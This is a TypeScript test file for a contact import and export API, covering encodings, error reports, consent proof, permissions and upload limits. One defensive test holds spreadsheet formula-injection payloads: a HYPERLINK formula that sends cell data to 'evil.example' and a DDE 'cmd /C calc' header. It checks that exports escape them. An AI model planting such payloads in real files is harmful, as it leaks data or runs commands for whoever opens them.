/**
 * Contact import and export through the API, on SQLite and PostgreSQL: a file becomes a job with
 * progress and a per-row error report; re-importing the same file changes nothing; opt-ins carry
 * their proof into the consent ledger; an erased contact stays erased; export streams CSV that
 * imports back; and each denial (analyst, agent export, another business, scopes, size).
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { ContactImport } from '@mmd/contracts';
import { type MmdClient, MmdError } from '@mmd/sdk';
import { parse as parseCsv } from 'csv-parse/sync';
import iconv from 'iconv-lite';
import { type TestServer, type User, eventually, newBot, onEachDatabase, rejectsWith, startTestServer, uniqueHandle } from './harness.ts';

const PROOF = 'consent_purpose,consent_source,consent_wording,consent_at,consent_evidence';

async function finished(client: MmdClient, id: string): Promise<ContactImport> {
  return eventually(
    `import ${id} to finish`,
    async () => {
      const imp = await client.contactImports.get(id);
      return imp.status === 'succeeded' || imp.status === 'failed' ? imp : undefined;
    },
    30_000,
  );
}

async function importFile(client: MmdClient, file: string | Uint8Array, options: Parameters<MmdClient['contactImports']['upload']>[1] = {}) {
  const started = await client.contactImports.upload(file, options);
  assert.equal(started.status, 'queued');
  return finished(client, started.id);
}

/** Upload bodies that stay open (a header sent, the rest held) until their `releases` are called. */
function heldUploads() {
  const releases: (() => void)[] = [];
  const held = () =>
    new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(new TextEncoder().encode('handle\n'));
        releases.push(() => {
          controller.enqueue(new TextEncoder().encode('nobody_here\n'));
          controller.close();
        });
      },
    });
  return { held, releases };
}

async function allErrors(client: MmdClient, id: string) {
  return (await client.contactImports.errors(id, { limit: 1000 })).errors;
}

onEachDatabase('contact import', (dialect) => {
  let server: TestServer;
  let biz: User;
  let people: User[];
  const team: Record<'admin' | 'agent' | 'analyst', MmdClient> = {} as never;

  before(async () => {
    server = await startTestServer({ dialect, config: { importBatchRows: 3, importMaxBytes: 64 * 1024 } });
    biz = await server.signUp(uniqueHandle('shop'), { kind: 'business' });
    people = [];
    for (let i = 0; i < 6; i++) people.push(await server.signUp(uniqueHandle('cust')));
    for (const role of ['admin', 'agent', 'analyst'] as const) {
      const member = await server.signUp(uniqueHandle(role));
      await biz.client.putBusinessMember(member.handle, role);
      team[role] = member.client.forBusiness(biz.accountId);
    }
  });
  after(async () => {
    await server.close();
  });

  test('imports a CSV in batches with progress, a per-row error report, and the proof of each opt-in', async () => {
    const bot = await newBot(server);
    const [amy, ben, cat] = people;
    const csv = [
      `\ufeffhandle,name,external_id,locale,time_zone,tags,attr:plan,attr:spend:number,attr:mobile:phone,${PROOF}`,
      `@${amy!.handle},Amy,crm-1,fr_FR,Europe/Paris,vip;new,gold,12.5,+33 6 12 34 56 78,marketing,checkout,"Send me offers,\nnow and then",2026-01-02T10:00:00Z,order 1`,
      `${ben!.handle},,crm-2,,Mars/Olympus,,,,,,,,,`,
      `nobody_${Date.now().toString(36)},,crm-3,,,,,,,,,,,`,
      `${bot.handle},,crm-4,,,,,,,,,,,`,
      `${cat!.handle},,crm-1,,,,,,,,,,,`,
      `${cat!.handle},Cat,crm-5,en-GB,,,silver,3,,marketing,,,,`,
      `${cat!.handle},Cat,crm-6,en-GB,,b2b,silver,3,,,,,,`,
    ].join('\r\n');
    const done = await importFile(biz.client, csv);
    assert.equal(done.status, 'succeeded', JSON.stringify(done.error));
    assert.deepEqual(done.rows, { done: 7, created: 2, updated: 0, unchanged: 0, refused: 5, consents_recorded: 1 });
    assert.equal(done.progress, 1);
    assert.equal(done.bytes_read, done.file_bytes);
    assert.equal(done.format, 'csv');

    const errors = await allErrors(biz.client, done.id);
    assert.deepEqual(
      errors.map((e) => [e.line, e.column, e.code]),
      [
        [4, 'time_zone', 'bad_time_zone'],
        [5, 'handle', 'unknown_handle'],
        [6, 'handle', 'not_a_person'],
        [7, 'external_id', 'duplicate_external_id'],
        [8, 'consent_source', 'missing_consent_proof'],
      ],
    );
    const csvReport = await biz.client.contactImports.errorsCsv(done.id);
    assert.match(csvReport, /^row,line,index,column,code,reason\n/);
    assert.match(csvReport, /\n2,4,,time_zone,bad_time_zone,bad time zone: 'Mars\/Olympus'/);

    const { contacts } = await biz.client.contacts.list({ limit: 100 });
    const amyContact = contacts.find((c) => c.handle === amy!.handle)!;
    assert.equal(amyContact.name, 'Amy');
    assert.equal(amyContact.external_id, 'crm-1');
    assert.equal(amyContact.locale, 'fr-FR');
    assert.equal(amyContact.time_zone, 'Europe/Paris');
    assert.equal(amyContact.source, 'import');
    assert.deepEqual([...amyContact.tags].sort(), ['new', 'vip']);
    assert.deepEqual(amyContact.attributes, { plan: 'gold', spend: 12.5, mobile: '+33612345678' });
    assert.equal(amyContact.consent.marketing?.state, 'opted_in');
    const ledger = await biz.client.contacts.consent(amyContact.id);
    assert.equal(ledger.events.length, 1);
    const event = ledger.events[0]! as Record<string, unknown>;
    assert.equal(event.source, 'import');
    assert.equal(event.wording, 'Send me offers,\nnow and then');
    assert.equal(event.evidence, 'order 1');
    assert.equal(event.at, Date.parse('2026-01-02T10:00:00Z'));
    const catContact = contacts.find((c) => c.handle === cat!.handle)!;
    assert.equal(catContact.external_id, 'crm-6', 'the refused rows wrote nothing of cat');
    assert.deepEqual(catContact.consent, {});
    // The attributes the file named are defined with the types its header gave.
    const defs = await biz.client.contacts.attributes();
    assert.deepEqual(
      defs.map((d) => [d.key, d.type]),
      [
        ['mobile', 'phone'],
        ['plan', 'text'],
        ['spend', 'number'],
      ],
    );

    // The same file again: nothing changes, nothing is duplicated, no second opt-in.
    const again = await importFile(biz.client, csv);
    assert.deepEqual(again.rows, { done: 7, created: 0, updated: 0, unchanged: 2, refused: 5, consents_recorded: 0 });
    assert.equal((await biz.client.contacts.list({ limit: 100 })).contacts.length, 2);
    assert.equal((await biz.client.contacts.consent(amyContact.id)).events.length, 1);
    // A changed file updates what changed.
    const changed = await importFile(biz.client, `handle,external_id,tags,attr:spend\n${amy!.handle},crm-1,vip;loyal,20\n${ben!.handle},crm-2,,\n`);
    assert.deepEqual(changed.rows, { done: 2, created: 1, updated: 1, unchanged: 0, refused: 0, consents_recorded: 0 });
    const amyNow = await biz.client.contacts.get(amyContact.id);
    assert.deepEqual([...amyNow.tags].sort(), ['loyal', 'new', 'vip']);
    assert.equal(amyNow.attributes.spend, 20);
  });

  test('UTF-16 with its byte-order mark, declared Windows-1252, a JSON array and NDJSON', async () => {
    const shop = await server.signUp(uniqueHandle('shop'), { kind: 'business' });
    const [amy, ben, cat, dan] = people;
    const utf16 = iconv.encode(`handle,name,attr:city\r\n${amy!.handle},Zoë,Zürich\r\n`, 'utf-16le', { addBOM: true });
    assert.equal((await importFile(shop.client, new Uint8Array(utf16))).rows.created, 1);
    const cp1252 = iconv.encode(`handle,name,attr:city\n${ben!.handle},Bénédicte,Besançon €\n`, 'windows-1252');
    const refusedAsUtf8 = await importFile(shop.client, new Uint8Array(cp1252));
    assert.equal(refusedAsUtf8.status, 'failed');
    assert.equal(refusedAsUtf8.error?.code, 'invalid_encoding');
    assert.equal((await importFile(shop.client, new Uint8Array(cp1252), { charset: 'windows-1252' })).rows.created, 1);
    const json = JSON.stringify([{ handle: cat!.handle, tags: ['a'], attributes: { visits: 3, city: 'Köln' } }, { handle: 'x' }]);
    const fromJson = await importFile(shop.client, json, { format: 'json' });
    assert.equal(fromJson.format, 'json');
    assert.deepEqual([fromJson.rows.created, fromJson.rows.refused], [1, 1]);
    assert.deepEqual(
      (await allErrors(shop.client, fromJson.id)).map((e) => [e.index, e.line, e.code]),
      [[1, null, 'bad_handle']],
    );
    const ndjson = `{"handle":"${dan!.handle}","locale":"pt-BR"}\n\n{"handle":"${dan!.handle}","time_zone":"Nowhere/Land"}\n`;
    const fromNdjson = await importFile(shop.client, ndjson, { format: 'ndjson' });
    assert.deepEqual([fromNdjson.format, fromNdjson.rows.created, fromNdjson.rows.refused], ['ndjson', 1, 1]);
    assert.deepEqual(
      (await allErrors(shop.client, fromNdjson.id)).map((e) => [e.line, e.code]),
      [[3, 'bad_time_zone']],
    );
    const { contacts } = await shop.client.contacts.list({ limit: 100 });
    const byHandle = new Map(contacts.map((c) => [c.handle, c]));
    assert.equal(byHandle.get(amy!.handle)?.name, 'Zoë');
    assert.equal(byHandle.get(amy!.handle)?.attributes.city, 'Zürich');
    assert.equal(byHandle.get(ben!.handle)?.attributes.city, 'Besançon €');
    assert.equal(byHandle.get(cat!.handle)?.attributes.visits, 3);
    assert.equal(byHandle.get(dan!.handle)?.locale, 'pt-BR');
  });

  test('multipart/form-data: the option fields before the file are used; a file over the limit is refused', async () => {
    const shop = await server.signUp(uniqueHandle('shop'), { kind: 'business' });
    const upload = (form: FormData) => fetch(`${server.url}/v1/business/contacts/import`, { method: 'POST', headers: { authorization: `Bearer ${shop.token}` }, body: form });
    const form = new FormData();
    form.append('charset', 'windows-1252');
    form.append('mapping', JSON.stringify({ Pseudo: 'handle', Ville: 'attr:city' }));
    form.append('file', new Blob([new Uint8Array(iconv.encode(`Pseudo;Ville\n${people[5]!.handle};Besançon\n`, 'windows-1252'))]), 'contacts.csv');
    const answer = await upload(form);
    assert.equal(answer.status, 202);
    const done = await finished(shop.client, ((await answer.json()) as ContactImport).id);
    assert.deepEqual([done.status, done.charset, done.rows.created], ['succeeded', 'windows-1252', 1]);
    assert.equal((await shop.client.contacts.list()).contacts[0]?.attributes.city, 'Besançon');
    const big = new FormData();
    big.append('file', new Blob([`handle\n${'x'.repeat(70 * 1024)}\n`]), 'big.csv');
    const refused = await upload(big);
    assert.equal(refused.status, 413);
    assert.equal(((await refused.json()) as { code: string }).code, 'upload_too_large');
    assert.equal((await shop.client.contactImports.list()).imports.length, 1);
  });

  test('a file that cannot be read fails with its reason and line; rows before it are in', async () => {
    const shop = await server.signUp(uniqueHandle('shop'), { kind: 'business' });
    const lines = [`handle,attr:note`, ...people.slice(0, 4).map((p) => `${p.handle},ok`), `${people[4]!.handle},"never closed`, 'more'];
    const done = await importFile(shop.client, lines.join('\n'));
    assert.equal(done.status, 'failed');
    assert.deepEqual(done.error, { code: 'malformed_csv', message: 'the quoted field opened on line 6 never closes', line: 6 });
    assert.equal(done.rows.created, 3, 'the first batch of three was committed before the error');
    const header = await importFile(shop.client, 'handle,favourite colour\na,b\n');
    assert.equal(header.error?.code, 'bad_header');
    assert.match(header.error!.message, /unknown column 'favourite colour'/);
  });

  test('an external id already held by another contact is refused, and an erased contact is not brought back', async () => {
    const shop = await server.signUp(uniqueHandle('shop'), { kind: 'business' });
    const [amy, ben] = people;
    await importFile(shop.client, `handle,external_id\n${amy!.handle},A-1\n${ben!.handle},B-1\n`);
    const conflict = await importFile(shop.client, `handle,external_id\n${ben!.handle},A-1\n${amy!.handle},A-2\n`);
    assert.deepEqual(
      (await allErrors(shop.client, conflict.id)).map((e) => [e.line, e.code]),
      [
        [2, 'external_id_conflict'],
        [3, 'external_id_conflict'],
      ],
    );
    const amyContact = (await shop.client.contacts.list({ limit: 10 })).contacts.find((c) => c.handle === amy!.handle)!;
    await shop.client.contacts.erase(amyContact.id);
    const after = await importFile(shop.client, `handle,tags,${PROOF}\n${amy!.handle},vip,marketing,web,Offers please,2026-01-01,form 9\n`);
    assert.deepEqual(
      (await allErrors(shop.client, after.id)).map((e) => e.code),
      ['contact_erased'],
    );
    const erased = await shop.client.contacts.get(amyContact.id).catch(() => null);
    if (erased) assert.notEqual(erased.consent.marketing?.state, 'opted_in');
  });

  test('export streams every contact as CSV that imports back into another business', async () => {
    const [amy, ben] = people;
    const source = await server.signUp(uniqueHandle('shop'), { kind: 'business' });
    await importFile(source.client, `handle,name,external_id,locale,time_zone,tags,attr:spend:number,attr:since:date,attr:vip:boolean,${PROOF}\n${amy!.handle},"Amy, ""A""",e-1,fr-CA,America/Toronto,b;a,12.5,2020-02-29,true,marketing,web,Yes,2026-01-01,f1\n${ben!.handle},,e-2,,,,,,,,,,,\n`);
    const response = await source.client.contactImports.exportCsv();
    assert.match(response.headers.get('content-type') ?? '', /^text\/csv/);
    assert.match(response.headers.get('content-disposition') ?? '', /attachment; filename="contacts-/);
    const csv = await response.text();
    const lines = csv.trim().split('\n');
    assert.equal(lines[0], 'handle,name,external_id,locale,time_zone,tags,attr:since:date,attr:spend:number,attr:vip:boolean,consent:marketing,consent:transactional,consent:surveys,consent:support');
    assert.ok(lines.includes(`${amy!.handle},"Amy, ""A""",e-1,fr-CA,America/Toronto,a;b,2020-02-29,12.5,true,opted_in,,,`), csv);
    assert.equal(lines.length, 3);
    const target = await server.signUp(uniqueHandle('shop'), { kind: 'business' });
    const back = await importFile(target.client, csv);
    assert.deepEqual([back.rows.created, back.rows.refused], [2, 0]);
    const copied = (await target.client.contacts.list({ limit: 10 })).contacts.find((c) => c.handle === amy!.handle)!;
    assert.deepEqual([copied.name, copied.external_id, copied.locale, copied.time_zone, [...copied.tags].sort(), copied.attributes], ['Amy, "A"', 'e-1', 'fr-CA', 'America/Toronto', ['a', 'b'], { since: '2020-02-29', spend: 12.5, vip: true }]);
    assert.deepEqual(copied.consent, {}, 'consent states are not imported: only proof records consent');
    const bom = await (await source.client.contactImports.exportCsv({ bom: true })).arrayBuffer();
    assert.deepEqual([...new Uint8Array(bom).slice(0, 3)], [0xef, 0xbb, 0xbf]);
  });

  // Review finding M5: cells were written as they were, so a name like =HYPERLINK(…) was a formula
  // when the export or the error report was opened in a spreadsheet.
  test('the export and the error report neutralise spreadsheet formulas, and the export imports back to the same values', async () => {
    const [amy, ben, cat] = people;
    const source = await server.signUp(uniqueHandle('shop'), { kind: 'business' });
    const formula = '=HYPERLINK("https://evil.example/?x="&A2,"click")';
    const q = (v: string) => `"${v.replace(/"/g, '""')}"`;
    // ''=x is the escaped form of the value '=x (csv-cells.ts): the apostrophe it starts with is kept.
    const csv = `handle,name,attr:note,attr:delta:number\n${amy!.handle},${q(formula)},@SUM(1+1),-5\n${ben!.handle},''=x,+33 6 12,\n${cat!.handle},-plain,-2+3,\n`;
    const done = await importFile(source.client, csv);
    assert.deepEqual([done.status, done.rows.created, done.rows.refused], ['succeeded', 3, 0], JSON.stringify(done));
    const stored = async (client: MmdClient) => {
      const list = (await client.contacts.list({ limit: 10 })).contacts;
      return Object.fromEntries(list.map((c) => [c.handle, [c.name, c.attributes]]));
    };
    const expected = { [amy!.handle]: [formula, { note: '@SUM(1+1)', delta: -5 }], [ben!.handle]: ["'=x", { note: '+33 6 12' }], [cat!.handle]: ['-plain', { note: '-2+3' }] };
    assert.deepEqual(await stored(source.client), expected);

    const exported = await (await source.client.contactImports.exportCsv()).text();
    const cells = parseCsv(exported) as string[][];
    for (const cell of cells.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell starts a formula: ${JSON.stringify(cell)}`);
    assert.ok(cells.flat().includes(`'${formula}`) && cells.flat().includes("''=x") && cells.flat().includes("'-5"), exported);

    const target = await server.signUp(uniqueHandle('shop'), { kind: 'business' });
    const back = await importFile(target.client, exported);
    assert.deepEqual([back.rows.created, back.rows.refused], [3, 0]);
    assert.deepEqual(await stored(target.client), expected, 'the export imports back to the same values');

    // A column named by the uploaded header is echoed in the error report: escaped too.
    const bad = await importFile(source.client, `handle,=cmd|' /C calc'!A0\n${amy!.handle},not a locale\n`, { mapping: { "=cmd|' /C calc'!A0": 'locale' } });
    assert.equal(bad.rows.refused, 1);
    const report = parseCsv(await source.client.contactImports.errorsCsv(bad.id)) as string[][];
    assert.equal(report[1]![3], "'=cmd|' /C calc'!A0");
    for (const cell of report.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
  });

  describe('denials', () => {
    test('an analyst cannot import; an agent and an admin can', async () => {
      await rejectsWith(team.analyst.contactImports.upload(`handle\n${people[0]!.handle}\n`), 'forbidden', 403);
      assert.equal((await team.agent.contactImports.upload(`handle\n${people[0]!.handle}\n`)).status, 'queued');
      assert.equal((await team.admin.contactImports.upload(`handle\n${people[0]!.handle}\n`)).status, 'queued');
      // Reading progress is for every role.
      const list = await team.analyst.contactImports.list();
      assert.ok(list.imports.length > 0);
    });

    test('an agent cannot export contacts unless the business allows it; an analyst never can', async () => {
      await rejectsWith(team.agent.contactImports.exportCsv(), 'forbidden', 403);
      await rejectsWith(team.analyst.contactImports.exportCsv(), 'forbidden', 403);
      assert.equal((await team.admin.contactImports.exportCsv()).status, 200);
      const self = await biz.client.businessSelf();
      await biz.client.updateBusiness({ settings: { ...self.settings, agents_may_export: true } });
      try {
        assert.equal((await team.agent.contactImports.exportCsv()).status, 200);
        await rejectsWith(team.analyst.contactImports.exportCsv(), 'forbidden', 403);
      } finally {
        await biz.client.updateBusiness({ settings: { ...self.settings, agents_may_export: false } });
      }
    });

    test("another business sees nothing of this business's imports", async () => {
      const mine = await biz.client.contactImports.upload(`handle\n${people[1]!.handle}\n`);
      const other = await server.signUp(uniqueHandle('rival'), { kind: 'business' });
      await rejectsWith(other.client.contactImports.get(mine.id), 'not_found', 404);
      await rejectsWith(other.client.contactImports.errors(mine.id), 'not_found', 404);
      assert.equal((await other.client.contactImports.list()).imports.length, 0);
      // A person who is not on the team names the business: as if it did not exist.
      const outsider = await server.signUp(uniqueHandle('out'));
      await rejectsWith(outsider.client.forBusiness(biz.accountId).contactImports.get(mine.id), 'not_found', 404);
      await rejectsWith(outsider.client.contactImports.upload('handle\nx\n'), 'business_required', 400);
      await rejectsWith(server.anonymous.contactImports.upload('handle\nx\n'), 'unauthenticated', 401);
    });

    test('an API key without contacts:write cannot import, nor one without contacts:export export', async () => {
      const { key } = await biz.client.createApiKey({ name: 'reader', scopes: ['business:read'] });
      const reader = server.anonymous.as(key);
      await rejectsWith(reader.contactImports.upload('handle\nx\n'), 'insufficient_scope', 403);
      await rejectsWith(reader.contactImports.exportCsv(), 'insufficient_scope', 403);
      assert.ok(Array.isArray((await reader.contactImports.list()).imports));
    });

    test('a business cannot pile up imports: past the pending limit, uploads are refused', async () => {
      const idle = await startTestServer({ dialect, worker: false, config: { importMaxPending: 2 } });
      try {
        const shop = await idle.signUp(uniqueHandle('shop'), { kind: 'business' });
        await shop.client.contactImports.upload('handle\nabc\n');
        await shop.client.contactImports.upload('handle\nabc\n');
        await rejectsWith(shop.client.contactImports.upload('handle\nabc\n'), 'limit_reached', 409);
        const other = await idle.signUp(uniqueHandle('shop'), { kind: 'business' });
        assert.equal((await other.client.contactImports.upload('handle\nabc\n')).status, 'queued', 'the limit is per business');
      } finally {
        await idle.close();
      }
    });

    // Review finding M3: the limit counted queued and running imports only, and the row was written
    // after the file was spooled, so any number of uploads still streaming got past it together.
    test('uploads still streaming count against the pending limit; a broken upload frees its place', async () => {
      const idle = await startTestServer({ dialect, worker: false, config: { importMaxPending: 3 } });
      try {
        const shop = await idle.signUp(uniqueHandle('shop'), { kind: 'business' });
        const { held, releases } = heldUploads();
        const outcomes: ('accepted' | 'refused' | 'other')[] = [];
        const uploads = Array.from({ length: 8 }, () =>
          shop.client.contactImports.upload(held()).then(
            () => outcomes.push('accepted'),
            (err: unknown) => outcomes.push(err instanceof MmdError && err.code === 'limit_reached' && err.status === 409 ? 'refused' : 'other'),
          ),
        );
        // While every body is still open, all but three are refused.
        await eventually('five uploads refused while the others stream', async () => (outcomes.length >= 5 ? true : undefined), 20_000);
        assert.deepEqual(outcomes.slice(0, 5), ['refused', 'refused', 'refused', 'refused', 'refused']);
        for (const release of releases) release();
        await Promise.all(uploads);
        assert.deepEqual([...outcomes].sort(), ['accepted', 'accepted', 'accepted', 'refused', 'refused', 'refused', 'refused', 'refused']);
        assert.equal((await shop.client.contactImports.list()).imports.filter((i) => i.status === 'queued').length, 3);
      } finally {
        await idle.close();
      }
      // A refused (too large) upload leaves no row that would count.
      const limited = await startTestServer({ dialect, worker: false, config: { importMaxPending: 1, importMaxBytes: 1024 } });
      try {
        const shop = await limited.signUp(uniqueHandle('shop'), { kind: 'business' });
        await rejectsWith(shop.client.contactImports.upload(`handle\n${'x'.repeat(2000)}\n`), 'upload_too_large', 413);
        assert.equal((await shop.client.contactImports.upload('handle\nabc\n')).status, 'queued');
      } finally {
        await limited.close();
      }
    });

    test('many businesses together cannot fill the disk: past the server-wide spool budget, uploads wait (503, Retry-After)', async () => {
      // Each upload may take 64 KB; the server holds 150 KB of import files at most.
      const tight = await startTestServer({ dialect, worker: false, config: { importMaxBytes: 64 * 1024, importSpoolBudgetBytes: 150 * 1024 } });
      try {
        const shops = [];
        for (let i = 0; i < 3; i++) shops.push(await tight.signUp(uniqueHandle('shop'), { kind: 'business' }));
        const { held, releases } = heldUploads();
        // Two uploads still streaming count 64 KB each (128 KB); a third would make 192 KB.
        const first = shops[0]!.client.contactImports.upload(held());
        await eventually('the first upload is registered', async () => ((await tight.db.db.selectFrom('contact_imports').select('id').execute()).length === 1 ? true : undefined));
        const second = shops[1]!.client.contactImports.upload(held());
        await eventually('the second upload is registered', async () => ((await tight.db.db.selectFrom('contact_imports').select('id').execute()).length === 2 ? true : undefined));
        const refused = await shops[2]!.client.contactImports.upload('handle\nabc\n').then(
          () => null,
          (err: unknown) => err,
        );
        for (const release of releases.splice(0, 1)) release();
        assert.ok(refused instanceof MmdError && refused.code === 'unavailable' && refused.status === 503, `refused with 503 unavailable (${String(refused)})`);
        // Once a stream ends, its file counts by its size (a few bytes): there is room again.
        assert.equal((await first).status, 'queued');
        assert.equal((await shops[2]!.client.contactImports.upload('handle\nabc\n')).status, 'queued');
        for (const release of releases) release();
        assert.equal((await second).status, 'queued');
      } finally {
        await tight.close();
      }
    });

    test('a file over the size limit is refused and nothing is queued; bad options are refused up front', async () => {
      const shop = await server.signUp(uniqueHandle('shop'), { kind: 'business' });
      const big = `handle,attr:note\n${`${people[0]!.handle},${'x'.repeat(100)}\n`.repeat(700)}`;
      await rejectsWith(shop.client.contactImports.upload(big), 'upload_too_large', 413);
      assert.equal((await shop.client.contactImports.list()).imports.length, 0);
      await rejectsWith(shop.client.contactImports.upload('handle\nx\n', { charset: 'klingon' }), 'invalid_import', 400);
      await rejectsWith(shop.client.contactImports.upload('handle\nx\n', { mapping: { Pseudo: 'nickname' } }), 'invalid_import', 400);
    });

    // Review finding L3: a quote or a line end as the delimiter was accepted (every file becomes ambiguous).
    test('a double quote, line feed or carriage return is refused as the delimiter, naming the parameter', async () => {
      const shop = await server.signUp(uniqueHandle('shop'), { kind: 'business' });
      for (const delimiter of ['"', '\n', '\r']) {
        const err = await shop.client.contactImports.upload('handle\nx\n', { delimiter }).catch((e: unknown) => e as MmdError);
        assert.ok(err instanceof MmdError, `delimiter ${JSON.stringify(delimiter)} accepted`);
        assert.deepEqual([err.status, err.code, (err.problem as { errors?: { path: string }[] } | null)?.errors?.map((e) => e.path)], [400, 'validation_failed', ['/delimiter']]);
        // The same as a multipart option field.
        const form = new FormData();
        form.set('delimiter', delimiter);
        form.set('file', new Blob(['handle\nx\n']), 'c.csv');
        const response = await fetch(`${server.url}/v1/business/contacts/import`, { method: 'POST', body: form, headers: { authorization: `Bearer ${shop.token}` } });
        const problem = (await response.json()) as { code: string; errors?: { path: string }[] };
        assert.deepEqual([response.status, problem.code, problem.errors?.map((e) => e.path)], [400, 'validation_failed', ['/delimiter']]);
      }
      assert.equal((await shop.client.contactImports.list()).imports.length, 0);
      assert.equal((await shop.client.contactImports.upload('handle|name\nx|y\n', { delimiter: '|' })).status, 'queued');
    });
  });
});

onEachDatabase('contact import error reports are kept for their retention only', (dialect) => {
  let server: TestServer;
  let now = Date.parse('2026-03-01T09:00:00Z');

  before(async () => {
    server = await startTestServer({ dialect, clock: () => now, config: { importReportDays: 30 } });
  });
  after(async () => {
    await server.close();
  });

  test('30 days after an import ends its per-row report is deleted and answers report_expired; its counts remain', async () => {
    const biz = await server.signUp(uniqueHandle('shop'), { kind: 'business' });
    const person = await server.signUp(uniqueHandle('cust'));
    const file = `handle,time_zone\n${person.handle},Europe/Paris\nnobody_${Date.now().toString(36)},Mars/Olympus\n`;
    const first = await importFile(biz.client, file);
    assert.equal(first.status, 'succeeded');
    assert.equal(first.rows.refused, 1);
    assert.equal((await allErrors(biz.client, first.id)).length, 1, 'the unknown handle, reported');

    // 29 days on: still there.
    now += 29 * 24 * 60 * 60 * 1000;
    assert.equal((await allErrors(biz.client, first.id)).length, 1);

    // Past 30 days: refused at once, and the rows go with the next import's run.
    now += 2 * 24 * 60 * 60 * 1000;
    await rejectsWith(biz.client.contactImports.errors(first.id), 'report_expired', 410);
    await rejectsWith(biz.client.contactImports.errorsCsv(first.id), 'report_expired', 410);
    const second = await importFile(biz.client, `handle\n${person.handle}\n`);
    assert.equal(second.status, 'succeeded');
    const kept = await biz.client.contactImports.get(first.id);
    assert.equal(kept.rows.refused, 1, "the counts remain");
    assert.equal(kept.rows.created, first.rows.created);
    const left = await server.db.db.selectFrom('contact_import_errors').select('row').where('import_id', '=', first.id).execute();
    assert.deepEqual(left, [], 'the report rows themselves are deleted');
    // The newer import's report is untouched by the prune.
    assert.deepEqual(await allErrors(biz.client, second.id), []);
  });
});
